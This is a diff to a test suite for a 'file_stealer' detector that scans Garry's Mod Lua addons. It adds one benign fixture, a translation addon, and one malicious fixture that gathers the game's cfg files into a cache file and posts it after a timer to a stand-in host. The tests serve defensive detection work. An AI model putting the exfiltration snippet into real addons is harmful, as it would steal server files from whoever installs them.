@@ -172,4 +172,29 @@ describe('file_stealer', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('its own folder found among the addons, and its API key, one data file, posted to the service it is for (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_find.lua': [
+        'local _, dirs = file.Find("addons/*", "MOD")',
+        'for _, d in ipairs(dirs) do if file.Exists("addons/" .. d .. "/lua/mine.lua", "MOD") then MyAddon.dir = d end end',
+      ].join('\n'),
+      'lua/autorun/server/sv_translate.lua': [
+        'local key = file.Read("translate_key.txt")',
+        'hook.Add("PlayerSay", "tr", function(ply, text)',
+        '  http.Post("https://translation.example.invalid/v2", { key = key, q = text }, function(body) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
+  it('the game listed, its files staged into one data file, which is read back and posted', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local fs = file.Find("cfg/*", "GAME")',
+        'for _, f in ipairs(fs) do file.Append("cache.txt", file.Read("cfg/" .. f, "GAME")) end',
+        'timer.Simple(60, function() http.Post("https://a.invalid/up", { d = file.Read("cache.txt") }) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
